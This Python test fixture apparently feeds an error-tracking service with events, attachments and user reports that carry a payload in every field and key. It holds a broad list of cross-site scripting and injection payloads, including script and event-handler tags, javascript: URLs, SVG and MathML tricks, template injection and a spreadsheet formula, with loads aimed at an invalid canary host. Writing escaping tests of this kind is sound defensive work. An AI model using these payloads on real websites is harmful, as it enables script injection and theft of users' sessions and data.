"""Text that would run if any page forgot to escape it once, and an event that carries it everywhere.

CALL is a script that sets window.hacked; every payload has it in another context. Values that are shown inside
HTML, attributes, URLs, scripts, styles, SVG, templates, spreadsheets and mails are all the same to a sender.
"""

import json

CALL = "window.hacked=1"
HOST = "canary.invalid"  # nothing may ever be asked for there

PAYLOADS = [
    f"<script>{CALL}</script>", f"</script><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script src=//{HOST}/x.js></script>",
    f"<img src=x onerror={CALL}>", f'"><img src=x onerror={CALL}>', f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>", f'" onmouseover="{CALL}" x="', f"' onfocus='{CALL}' autofocus x='",
    f'" style="background:url(//{HOST}/a)', f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>', f"<math href=javascript:{CALL}>x</math>",
    f"<math><mtext></mglyph><svg><style></math><img src=x onerror={CALL}>", f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}></iframe>", f'<iframe srcdoc="<script>{CALL}</script>">',
    f"<object data=//{HOST}/x></object>", f"<embed src=//{HOST}/x>", f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<base href=//{HOST}/>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=//{HOST}/><button autofocus>x", f"javascript:{CALL}", f"java\tscript:{CALL}",
    f"JaVaScRiPt://%0a{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"//{HOST}/x",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;", f"%3Cscript%3E{CALL}%3C/script%3E", f"+ADw-script+AD4-{CALL}",
    f"\u2028{CALL}//", f"';{CALL}//", f'";{CALL}//', f"${{{CALL}}}", f"{{{{constructor.constructor('{CALL}')()}}}}",
    f'<?cs var:"<script>{CALL}</script>" ?>', '<?cs uvar:Org.name ?>', '<?cs include:"../config.yml" ?>',
    f"<style>@import '//{HOST}/x.css'</style>", f"x:expression({CALL})", f"=HYPERLINK(\"//{HOST}/\")",
    f"![x](//{HOST}/x.png)", f"[x](javascript:{CALL})", "\u202e<b>\u2066\u200b</b>\u0000\x1b[31m",
    f"<\x00script>{CALL}</script>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
]


class Deal:
    """Payloads in turn, from another one on for each event, so that every field meets many."""

    def __init__(self, start):
        self.at = start

    def __call__(self):
        self.at += 1
        return PAYLOADS[self.at % len(PAYLOADS)]


def event(n):
    """An event with a payload in every field and key that a sender writes."""
    p = Deal(n * 7)
    pair = lambda: {p(): p()}  # noqa: E731
    frame = {"function": p(), "module": p(), "filename": p(), "abs_path": p(), "lineno": 1, "colno": 2, "in_app": True,
             "pre_context": [p()], "context_line": p(), "post_context": [p()], "package": p(), "platform": p(),
             "vars": {p(): p(), "list": [p(), pair()], "deep": {"a": pair()}}}
    stack = {"frames": [frame, {**frame, "in_app": False}]}
    return {
        "platform": "python", "transaction": p(), "logger": p(), "server_name": p(), "release": p(), "dist": p(),
        "environment": p(), "message": p(), "logentry": {"message": p(), "params": [p()]}, "culprit": p(),
        "exception": {"values": [{"type": p(), "value": p(), "module": p(), "thread_id": 1, "stacktrace": stack,
                                  "mechanism": {"type": p(), "handled": False, "description": p(), "help_link": p(),
                                                "data": pair()}}]},
        "threads": {"values": [{"id": 1, "name": p(), "crashed": True, "stacktrace": stack}]},
        "breadcrumbs": {"values": [
            {"type": p(), "category": p(), "message": p(), "level": p(), "data": pair()},
            {"category": "http", "data": {"url": p(), "method": p(), "status_code": p()}},
            {"category": "navigation", "data": {"from": p(), "to": p()}}]},
        "request": {"url": p(), "method": p(), "query_string": p(), "fragment": p(), "headers": {p(): p(), "User-Agent": p()},
                    "cookies": pair(), "data": pair(), "env": pair()},
        "user": {"id": p(), "username": p(), "email": p(), "ip_address": p(), "name": p(), "geo": pair(), p(): p()},
        "tags": {"key": p(), p(): p()}, "extra": {p(): p(), "0.Name": p(), "list": [p()]},
        "contexts": {p(): pair(), **{k: {"name": p(), "version": p(), p(): p()}
                                     for k in ("runtime", "os", "browser", "device", "app", "gpu", "culture")},
                     "flags": {"values": [{"flag": p(), "result": p()}]}, "trace": {"op": p(), "description": p()}},
        "modules": pair(), "fingerprint": [p(), str(n)],
        "sdk": {"name": p(), "version": p(), "integrations": [p()], "packages": [{"name": p(), "version": p()}]},
        "debug_meta": {"images": [{"type": p(), "code_file": p(), "debug_id": p()}]}, "errors": [{"type": p(), "name": p()}],
    }


def items(n, id):
    """The event with its attachments and its user's words, and a message by itself."""
    p = Deal(n * 11)
    told = {"contexts": {"feedback": {"message": p(), "name": p(), "contact_email": p(), "source": p(), "url": p()}},
            "request": {"url": p()}, "release": p(), "environment": p(), "platform": "javascript"}
    body = json.dumps({p(): p()}).encode()
    return [({"type": "event"}, {"event_id": id, **event(n)}),
            ({"type": "attachment", "filename": p(), "content_type": "text/html"}, p().encode()),
            ({"type": "attachment", "filename": p() + ".png", "attachment_type": p()}, body),
            ({"type": "user_report"}, {"event_id": id, "name": p(), "email": p(), "comments": p()})], told
